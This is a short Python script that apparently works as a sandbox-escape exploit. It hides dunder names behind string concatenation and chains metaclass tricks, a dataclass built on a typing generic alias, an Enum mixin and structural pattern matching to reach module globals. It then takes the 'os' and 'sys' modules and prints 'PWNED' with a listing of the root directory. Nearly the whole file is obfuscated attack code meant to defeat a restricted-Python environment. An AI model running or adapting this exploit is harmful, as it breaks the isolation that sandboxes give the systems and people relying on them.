import abc
import enum
import typing
import dataclasses


class K0:
    pass


def dn(*parts):
    return '_' * 2 + ''.join(parts) + '_' * 2


RENAMES = {'ma': dn('match', '_args'), 'hook': dn('subclass', 'hook'), 'ann': dn('annota', 'tions')}


class NS(dict):
    def __setitem__(self, k, v):
        dict.__setitem__(self, RENAMES.get(k, k), v)


def prep(*a, **k):
    return NS()


class Meta:
    def __init__(self, maker):
        self.maker = maker

    def __getattr__(self, name):
        return prep

    def __call__(self, name, bases, ns, **kw):
        return self.maker(name, bases, dict(ns), **kw)


# Q: an ABC that vouches for anything, with a __match_args__ of our choosing
class Q(metaclass=Meta(type(abc.ABC))):
    ma = (dn('glo', 'bals'),)
    hook = classmethod(lambda cls, other: True)


# E: a typing generic alias subclass processed as a dataclass with a field named global_enum
GA = type(typing.List[int])


class E(GA, metaclass=Meta(type(K0)), **{'_' + 'root': True}):
    'doc'
    ann = {'global_' + 'enum': int}


dataclasses.dataclass(E, init=False, repr=False, eq=False, match_args=False)
e = E(enum, (int,), name='x')
d = dataclasses.asdict(e)
fn = d['global_' + 'enum']
print('got', fn)


class Mix:
    def __new__(cls, *args):
        return Q


E2 = enum.Enum('E2', [('_sandbox_class_0', 1)], type=Mix)


@dataclasses.dataclass
class P:
    a: int


match (fn(E2), fn)[1]:
    case P(g):
        o = g['o' + 's']
        s = g['s' + 'ys']
        print('PW' + 'NED: os.getpid() =', o.getpid(), 'sys.modules =', len(s.modules), 'listdir / =', o.listdir('/'))
    case _:
        print('no match')
